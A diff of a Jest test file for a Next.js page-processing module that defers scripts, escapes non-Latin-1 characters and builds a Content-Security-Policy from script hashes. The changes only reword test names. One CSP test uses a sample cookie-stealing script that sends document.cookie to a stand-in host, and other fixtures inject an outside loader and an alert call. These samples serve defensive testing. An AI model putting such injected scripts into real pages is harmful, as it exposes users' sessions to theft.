@@ -18,7 +18,7 @@ const DATA = '<script>self.__next_f.push([1,"a"])</script>';
 afterEach(() => jest.restoreAllMocks());
 
 describe('scripts of a page', () => {
-  test('are requested by one script at the end of the head, in their order and with their ids', () => {
+  test('are requested by one script at the end of the head, in order and with their ids', () => {
     const html = deferScripts(document(chunk('a') + chunk('b', ' id="_R_"'), chunk('c')));
     expect(html).not.toMatch(/<script src=/);
     expect(html).toMatch(
@@ -26,17 +26,17 @@ describe('scripts of a page', () => {
     );
   });
 
-  test('lose their preloads, which would fetch them before the first paint', () => {
+  test('have no preloads, which would fetch them before the first paint', () => {
     const preload = '<link rel="preload" as="script" fetchPriority="low" href="/_next/a.js"/>';
     expect(deferScripts(document(preload + chunk('a')))).not.toContain('preload');
   });
 
-  test('stay as they are in a page without chunks or without a head', () => {
+  test('do not change in a page without chunks or without a head', () => {
     expect(deferScripts(document(DATA))).toBe(document(DATA));
     expect(deferScripts(chunk('a'))).toBe(chunk('a'));
   });
 
-  test('that hold data become one', () => {
+  test('are merged if they contain data', () => {
     const { html } = preparePage(document('', DATA + DATA + DATA));
     expect(html.match(/<script>/g)).toHaveLength(1);
     expect(html.match(/__next_f\.push/g)).toHaveLength(3);
@@ -44,7 +44,7 @@ describe('scripts of a page', () => {
 });
 
 describe('characters beyond Latin-1', () => {
-  test('are references in markup and escapes in scripts, and accents stay', () => {
+  test('become references in markup and escapes in scripts, and accents stay', () => {
     const html = '<p title="“a”">é… 😀</p><script>self.__next_f.push([1,"é… 😀"])</script>';
     expect(toOneByte(html)).toBe(
       '<p title="&#8220;a&#8221;">é&#8230; &#128512;</p>' +
@@ -52,13 +52,13 @@ describe('characters beyond Latin-1', () => {
     );
   });
 
-  test('leave the page readable by a browser as it was', () => {
+  test('leave the page unchanged for a browser', () => {
     const html = '<title>Menos CO₂ – 2026</title><p data-text="“a” 😀">é… 😀</p>';
     const parse = (text: string) => parse5.serialize(parse5.parse(text));
     expect(parse(toOneByte(html))).toBe(parse(html));
   });
 
-  test('are escaped before the scripts are named by hash', () => {
+  test('are escaped before the scripts are hashed', () => {
     const script = '<script>self.__next_f.push([1,"“a”"])</script>';
     const { html, headers } = preparePage(document('', script));
     const code = /<script>([^]*?)<\/script>/.exec(html)?.[1] ?? '';
@@ -68,7 +68,7 @@ describe('characters beyond Latin-1', () => {
 });
 
 describe('the policy of a page', () => {
-  test("names the hash of each of the server's own inline scripts", () => {
+  test("contains the hash of each of the server's own inline scripts", () => {
     allowInlineScript('document.title="x"');
     const { html, headers } = preparePage(
       document(chunk('a') + '<script>document.title="x"</script>', DATA),
@@ -79,7 +79,7 @@ describe('the policy of a page', () => {
     expect(headers['content-security-policy']).not.toContain('unsafe-inline');
   });
 
-  test('leaves out any other script, which browsers then block, and logs its length alone', () => {
+  test('omits any other script, which browsers then block, and logs only its length', () => {
     const written = jest.spyOn(process.stderr, 'write').mockReturnValue(true);
     const attack = 'fetch("//elsewhere.example/"+document.cookie)';
     expect(scriptPolicy(`<script>${attack}</script>`)).toBe("script-src 'self'");
@@ -93,7 +93,7 @@ describe('the policy of a page', () => {
       `<script>${'LOADER'}([["https://x.example/a.js"]])</script>`,
     ],
     ['data followed by code', '<script>self.__next_f.push([1,"a"]);alert(1)</script>'],
-  ])('leaves out %s', (_name, script) => {
+  ])('omits %s', (_name, script) => {
     jest.spyOn(process.stderr, 'write').mockReturnValue(true);
     const deferred = deferScripts(document(chunk('a')));
     const loader = /<script>(.*)\(\[\[/s.exec(deferred)?.[1] ?? '';
@@ -106,7 +106,7 @@ describe('the policy of a page', () => {
     );
   });
 
-  test('allows the map of Google only where its key and map id are set', () => {
+  test("allows Google's map only if its key and map id are set", () => {
     process.env.GOOGLE_MAPS_API_KEY = 'k'.repeat(20);
     process.env.GOOGLE_MAPS_MAP_ID = 'mapa';
     expect(scriptPolicy('')).toBe("script-src 'self' https://maps.googleapis.com");
@@ -116,6 +116,6 @@ describe('the policy of a page', () => {
   });
 });
 
-test('a redirect is stored without the page that nobody sees', () => {
+test('a redirect is stored without its page, which nobody sees', () => {
   expect(preparePage(document(chunk('a')), 308).html).toBe('');
 });
